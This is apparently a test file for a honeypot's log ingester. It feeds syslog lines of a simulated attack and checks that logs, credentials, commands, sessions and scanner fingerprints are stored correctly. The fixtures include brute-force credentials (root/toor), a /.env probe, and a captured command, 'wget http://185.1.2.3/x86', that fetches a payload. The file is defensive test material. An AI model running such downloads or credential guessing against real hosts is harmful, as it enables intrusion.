import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS, openScratch } from '../../test/support/databases.js';
import { scratchDir } from '../../test/support/scratch.js';
import type { BusEvent } from '../bus/bus.js';
import { createMemoryBus } from '../bus/memory.js';
import type { Database } from '../db/connection.js';
import { getState } from '../db/repositories/state.js';
import { ManualClock } from '../runtime/clock.js';
import { silentLogger } from '../runtime/logger.js';
import { NO_TRUSTED_PROXIES } from './bounties/index.js';
import { Ingester, type IngestTotals } from './ingester.js';
import { OutboxRelay } from './outbox-relay.js';
import { type BatchSink, storeSink } from './sink.js';
import { fileSource, spoolSource } from './sources.js';
import { SpoolWriter } from './spool/writer.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

/** A small attack, in the reference's own line shapes. */
const LINES = [
  // SSH brute force: the same password twice, then a secret with an escaped ] before src_ip.
  `<134>1 2026-05-10T12:00:01.000001+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="toor" secret_b64="${b64('toor')}" src_ip="203.0.113.9"]`,
  `<134>1 2026-05-10T12:00:02.000001+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="toor" secret_b64="${b64('toor')}" src_ip="203.0.113.9"]`,
  `<134>1 2026-05-10T12:00:03.000001+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="admin" principal="admin" secret_printable="\\]bracket" secret_b64="${b64(']bracket')}" src_ip="203.0.113.9"]`,
  // HTTP request from ip:port with a scanner User-Agent, on a second decky.
  `<134>1 2026-05-10T12:00:04.5+00:00 decky-02 http - request [relay@55555 method="GET" path="/.env" remote_addr="203.0.113.9:51544" headers="{\\"Host\\": \\"decky-02\\", \\"User-Agent\\": \\"zgrab/0.x\\", \\"Accept\\": \\"*/*\\"}" body=""]`,
  // The same request again: its bounties must not be stored twice.
  `<134>1 2026-05-10T12:00:05.5+00:00 decky-02 http - request [relay@55555 method="GET" path="/.env" remote_addr="203.0.113.9:51545" headers="{\\"Host\\": \\"decky-02\\", \\"User-Agent\\": \\"zgrab/0.x\\", \\"Accept\\": \\"*/*\\"}" body=""]`,
  // A shell command, double-wrapped by the container runtime.
  `<14>1 2026-05-10T12:00:10.000200+00:00 decky-01 1 - - - 2026-05-10T12:00:10.000100+00:00 decky-01 bash - command [timeQuality tzKnown="1" isSynced="1" syncAccuracy="1234"] CMD uid=0 user=root src=203.0.113.9 pwd=/root cmd=uname -a; wget http://185.1.2.3/x86`,
  // The session that command belonged to closes.
  `<134>1 2026-05-10T12:00:20+00:00 decky-01 sessrec - session_recorded [relay@55555 sid="0b6a8f2e-7d4c-4c36-9a5e-2f1d7c1b9e01" service="ssh" src_ip="203.0.113.9" duration_s="15.000" bytes="1234" truncated="false"]`,
  // A line naming no attacker: stored as a log, no attacker row.
  "<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - %% It's time to make the do-nuts.",
  // Malformed lines.
  '<192>1 2026-05-10T12:00:00Z host app - msg - out of range PRI',
  '<134>1 2026-05-10T12:00:00Z decky-01 ssh - auth_attempt [relay@55555 src_ip="198.51.100.7" secret_b64="eA=="',
  'complete garbage',
];

/** Writes `lines` to `attack.log` and imports it through an Ingester into `sink`, `batchSize` a batch. */
function importLines(sink: BatchSink, lines: string[], batchSize: number): Promise<IngestTotals> {
  const dir = scratchDir('decnet-ingest');
  writeFileSync(join(dir, 'attack.log'), `${lines.join('\n')}\n`);
  const ingester = new Ingester({
    sink,
    clock: new ManualClock(Date.UTC(2026, 4, 10, 13)),
    logger: silentLogger,
    batchSize,
    batchMaxWaitMs: 100,
    bounties: { trustedProxies: NO_TRUSTED_PROXIES },
  });
  return ingester.drain(fileSource(join(dir, 'attack.log'), 'attack.log', 0, 'import:test'));
}

describe.each(DIALECTS)('ingesting on %s', (dialect) => {
  let database: Database;
  let cleanup: () => Promise<void>;
  let sink: BatchSink;

  beforeAll(async () => {
    ({ database, cleanup } = await openScratch(dialect));
    sink = await storeSink(database.target);
    const totals = await importLines(sink, LINES, 4);
    expect(totals).toMatchObject({ read: 11, stored: 8, deadLettered: 3 });
  });
  afterAll(async () => {
    await sink.close();
    await cleanup();
  });

  it('stores every good line with its parsed fields and every malformed one as a dead letter', async () => {
    const logs = await database.db.selectFrom('logs').selectAll().orderBy('id').execute();
    expect(logs).toHaveLength(8);
    expect(logs[3]!.fields).toMatchObject({ method: 'GET', path: '/.env', remote_port: '51544' });
    expect(logs[3]!.attacker_ip).toBe('203.0.113.9');
    const dead = await database.db.selectFrom('dead_letters').selectAll().orderBy('id').execute();
    expect(dead.map((d) => d.error_code)).toEqual(['pri', 'sd_unterminated', 'pri']);
    expect(Buffer.from(dead[2]!.raw_b64, 'base64').toString()).toBe('complete garbage');
    expect(dead[0]!.source).toMatch(/^attack\.log@\d+$/);
  });

  it('makes one attacker per source IP and none for a line without one', async () => {
    const attackers = await database.db.selectFrom('attackers').selectAll().execute();
    expect(attackers).toHaveLength(1);
    const a = attackers[0]!;
    expect(a).toMatchObject({
      ip: '203.0.113.9',
      event_count: 7,
      services: ['auth-helper', 'bash', 'http', 'sessrec'],
      deckies: ['decky-01', 'decky-02'],
      decky_count: 2,
      credential_count: 3,
      command_count: 1,
      session_count: 1,
      is_traversal: true,
      traversal_path: 'decky-01 → decky-02',
      first_seen: '2026-05-10T12:00:01.000001Z',
      last_seen: '2026-05-10T12:00:20.000000Z',
    });
  });

  it('counts repeated credentials as attempts and keeps a secret with an escaped bracket', async () => {
    const creds = await database.db.selectFrom('credentials').selectAll().orderBy('id').execute();
    expect(creds.map((c) => [c.principal, c.secret_printable, c.attempt_count])).toEqual([
      ['root', 'toor', 2],
      ['admin', ']bracket', 1],
    ]);
    expect(Buffer.from(creds[1]!.secret_b64, 'base64').toString()).toBe(']bracket');
  });

  it('links the double-wrapped shell command to the session that closed after it', async () => {
    const [command] = await database.db.selectFrom('commands').selectAll().execute();
    expect(command).toMatchObject({
      command: 'uname -a; wget http://185.1.2.3/x86',
      attacker_ip: '203.0.113.9',
      session_id: '0b6a8f2e-7d4c-4c36-9a5e-2f1d7c1b9e01',
      uid: '0',
      username: 'root',
      cwd: '/root',
    });
    const [session] = await database.db.selectFrom('sessions').selectAll().execute();
    expect(session).toMatchObject({
      service: 'ssh',
      duration_s: 15,
      bytes: 1234,
      command_count: 1,
      truncated: false,
    });
  });

  it('stores each fingerprint once however often it is seen', async () => {
    const bounties = await database.db.selectFrom('bounties').selectAll().execute();
    const ua = bounties.filter((b) => b.fingerprint_type === 'http_useragent');
    expect(ua).toHaveLength(1);
    expect(ua[0]!.payload).toMatchObject({ value: 'zgrab/0.x', category: 'scanner' });
    // The repeated request is in the next batch: its bounties conflict with the stored ones and the
    // attacker's count takes only those actually inserted.
    const [attacker] = await database.db.selectFrom('attackers').select('bounty_count').execute();
    expect(attacker!.bounty_count).toBe(bounties.length);
  });

  it('queues the bus events announcing what it stored', async () => {
    const rows = await database.db.selectFrom('outbox').selectAll().orderBy('id').execute();
    expect(rows).toHaveLength(3); // one row per batch of four lines
    const outbox = rows.flatMap((r) => r.events);
    const topics = outbox.map((o) => o.topic);
    // Two credentials in the first batch (root's two tries are one), kept by key with their attempts.
    const credentialKeys = await database.db
      .selectFrom('credentials')
      .select(['credential_key', 'principal'])
      .orderBy('id')
      .execute();
    expect(rows.map((r) => r.credential_events?.items ?? [])).toEqual([
      [
        [credentialKeys[0]!.credential_key, 2],
        [credentialKeys[1]!.credential_key, 1],
      ],
      [],
      [],
    ]);
    expect(topics).not.toContain('credential.captured');
    expect(topics.filter((t) => t === 'attacker.observed')).toHaveLength(1);
    expect(topics.filter((t) => t === 'attacker.session.ended')).toHaveLength(1);
    expect(topics.filter((t) => t === 'system.log').length).toBeGreaterThan(0);
    const ended = outbox.find((o) => o.topic === 'attacker.session.ended')!;
    expect(ended.payload).toMatchObject({
      session_id: '0b6a8f2e-7d4c-4c36-9a5e-2f1d7c1b9e01',
      command_count: 1,
    });
  });

  it('publishes the queued events on the bus in order, with their ids, and empties the outbox', async () => {
    const rows = await database.db.selectFrom('outbox').selectAll().orderBy('id').execute();
    const queued = rows.flatMap((r) => r.events);
    const relayAll = async (): Promise<BusEvent[]> => {
      const bus = createMemoryBus({});
      const seen: BusEvent[] = [];
      await bus.subscribe('>', (e) => {
        seen.push(e);
      });
      const relay = new OutboxRelay(database, bus, new ManualClock(), silentLogger);
      while ((await relay.relayOnce()) > 0);
      await bus.close();
      return seen;
    };
    const seen = await relayAll();
    // Each row's credential events come first, built from the credentials' rows, then its other events.
    const credentials = seen.slice(0, 2);
    expect(credentials.map((e) => [e.topic, e.ts])).toEqual([
      ['credential.captured', rows[0]!.credential_events!.ts],
      ['credential.captured', rows[0]!.credential_events!.ts],
    ]);
    expect(credentials.map((e) => e.payload)).toEqual([
      {
        attacker_ip: '203.0.113.9',
        decky: 'decky-01',
        service: 'auth-helper',
        principal: 'root',
        secret_kind: 'plaintext',
        secret_sha256: createHash('sha256').update('toor').digest('hex'),
        attempts: 2,
      },
      expect.objectContaining({ principal: 'admin', attempts: 1 }),
    ]);
    expect(seen.slice(2).map((e) => [e.id, e.topic, e.ts])).toEqual(queued.map((e) => [e.id, e.topic, e.ts]));
    expect(await database.db.selectFrom('outbox').selectAll().execute()).toEqual([]);

    // Published again (a relay that died before deleting the row), the credential events keep their ids.
    await database.db
      .insertInto('outbox')
      .values({ created_at: rows[0]!.created_at, events: [], credential_events: rows[0]!.credential_events })
      .execute();
    const again = await relayAll();
    expect(again.map((e) => e.id)).toEqual(credentials.map((e) => e.id));
    expect(new Set(credentials.map((e) => e.id)).size).toBe(2);
  });

  it('commits the source position with the rows', async () => {
    const state = await getState(database, 'import:test');
    expect(state).toEqual({ offset: `${LINES.join('\n')}\n`.length });
  });
});

describe.each(DIALECTS)('replaying the spool on %s', (dialect) => {
  it('writes nothing twice when the same lines are read again from the committed position', async () => {
    const { database, cleanup } = await openScratch(dialect);
    try {
      const dir = scratchDir('decnet-replay');
      const clock = new ManualClock();
      const writer = await SpoolWriter.open(dir, {
        segmentBytes: 1 << 20,
        fsyncMs: 10,
        clock,
        logger: silentLogger,
      });
      for (const line of LINES) writer.append(line);
      await writer.close();
      const store = await storeSink(database.target);
      const make = () =>
        new Ingester({
          sink: store,
          clock,
          logger: silentLogger,
          batchSize: 3,
          batchMaxWaitMs: 10,
          bounties: { trustedProxies: NO_TRUSTED_PROXIES },
        });
      await make().drain(spoolSource(dir, { segment: 1, offset: 0 }, 'ingest.spool'));
      const committed = (await getState(database, 'ingest.spool')) as { segment: number; offset: number };
      const again = await make().drain(spoolSource(dir, committed, 'ingest.spool'));
      expect(again.read).toBe(0);
      const count = async (t: 'logs' | 'dead_letters' | 'credentials') =>
        Number(
          (
            await database.db
              .selectFrom(t)
              .select((eb) => eb.fn.countAll().as('n'))
              .executeTakeFirstOrThrow()
          ).n,
        );
      expect([await count('logs'), await count('dead_letters'), await count('credentials')]).toEqual([
        8, 3, 2,
      ]);
      await store.close();
    } finally {
      await cleanup();
    }
  });
});

/**
 * Lines whose values are built to break a bulk format: a raw tab (COPY's column separator), a carriage
 * return, backslashes, the `\N` and `\.` markers of COPY's text format, and non-ASCII text.
 */
const HOSTILE_LINES = [
  `<134>1 2026-05-10T12:00:01.000001+00:00 decky-01 ssh - auth_attempt [relay@55555 username="ro\tot" principal="\\\\N" secret_printable="a\\\\b\\"c\\]d" secret_b64="${b64('a\\b"c]d')}" src_ip="203.0.113.50"] msg with\ta tab, a \r return and \\. here`,
  `<14>1 2026-05-10T12:00:02.000200+00:00 decky-01 1 - - - 2026-05-10T12:00:02.000100+00:00 decky-01 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=203.0.113.50 pwd=/tmp cmd=printf 'a\\tb\\n' | tr '\t' ' ' # ünïcødé \\N`,
];

describe.each(DIALECTS)('storing hostile text on %s', (dialect) => {
  it('keeps every value byte for byte: raw line, fields, message and command', async () => {
    const { database, cleanup } = await openScratch(dialect);
    const sink = await storeSink(database.target);
    try {
      const totals = await importLines(sink, HOSTILE_LINES, 10);
      expect(totals).toMatchObject({ read: 2, stored: 2, deadLettered: 0 });

      const logs = await database.db.selectFrom('logs').selectAll().orderBy('id').execute();
      expect(logs.map((l) => l.raw_line)).toEqual(HOSTILE_LINES);
      expect(logs[0]!.fields).toMatchObject({
        username: 'ro\tot',
        principal: '\\N',
        secret_printable: 'a\\b"c]d',
        src_ip: '203.0.113.50',
      });
      expect(logs[0]!.msg).toBe('msg with\ta tab, a \r return and \\. here');
      const [command] = await database.db.selectFrom('commands').selectAll().execute();
      expect(command!.command).toBe("printf 'a\\tb\\n' | tr '\t' ' ' # ünïcødé \\N");
      const [credential] = await database.db.selectFrom('credentials').selectAll().execute();
      expect(Buffer.from(credential!.secret_b64, 'base64').toString()).toBe('a\\b"c]d');
    } finally {
      await sink.close();
      await cleanup();
    }
  });
});
